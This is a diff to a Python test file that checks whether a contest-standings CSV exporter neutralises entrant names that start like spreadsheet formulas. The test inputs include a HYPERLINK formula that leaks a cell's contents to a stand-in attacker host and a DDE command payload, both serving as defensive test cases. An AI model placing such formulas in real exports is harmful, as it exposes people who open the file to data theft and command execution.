@@ -3,8 +3,10 @@ the noise-band rule (extra runs, then ties) and the canonical CSV's digest."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import hashlib
+import io
 import itertools
 
 import pytest
@@ -129,6 +131,47 @@ def test_the_digest_is_the_sha256_of_the_canonical_csv():
     assert text.splitlines()[2] == "1,bob,6,101,3,true"
     assert rules.digest_of(rows) == "sha256:" + hashlib.sha256(text.encode()).hexdigest()
     assert rules.digest_of(list(rows)) == rules.digest_of(rows)  # stable
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your prize")'
+
+
+def entrant_cells(text: str) -> list[str]:
+    return [line[1] for line in csv.reader(io.StringIO(text))][1:]
+
+
+@pytest.mark.parametrize("name", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tx=1"])
+def test_a_name_that_starts_like_a_formula_is_exported_as_text(name: str) -> None:
+    rows = [rules.Row(1, 0, name, 5, 100, 3, False)]
+
+    (cell,) = entrant_cells(rules.canonical_csv(rows))
+
+    assert cell == "'" + name  # a spreadsheet shows it as the text it is
+    assert rules.neutral_cell("\r" + name) == "'\r" + name
+    assert (
+        rules.digest_of(rows)
+        == "sha256:" + hashlib.sha256(rules.canonical_csv(rows).encode()).hexdigest()
+    )
+
+
+def test_honest_names_are_exported_as_they_are() -> None:
+    names = ["alice", "bob-2", "x=y", "Team +1", "o'brien", "ünïcode", "a,b", 'say "hi"']
+    rows = [rules.Row(i + 1, 0, name, i, 100, 1, False) for i, name in enumerate(names)]
+
+    assert entrant_cells(rules.canonical_csv(rows)) == names
+    assert rules.canonical_csv(rows) == rules.canonical_csv(rows, neutral=False)
+
+
+def test_standings_published_before_neutralising_still_match_their_digest() -> None:
+    rows = [rules.Row(1, 0, HYPERLINK, 5, 100, 3, False), rules.Row(2, 0, "bob", 6, 101, 3, False)]
+    before = (
+        "sha256:" + hashlib.sha256(rules.canonical_csv(rows, neutral=False).encode()).hexdigest()
+    )
+
+    assert rules.published_csv(rows, before) == rules.canonical_csv(rows, neutral=False)
+    assert rules.published_csv(rows, rules.digest_of(rows)) == rules.canonical_csv(rows)
+    # A digest of neither form (a correction since): the canonical form, never the plain.
+    assert rules.published_csv(rows, "sha256:" + "0" * 64) == rules.canonical_csv(rows)
 
 
 entries = st.lists(
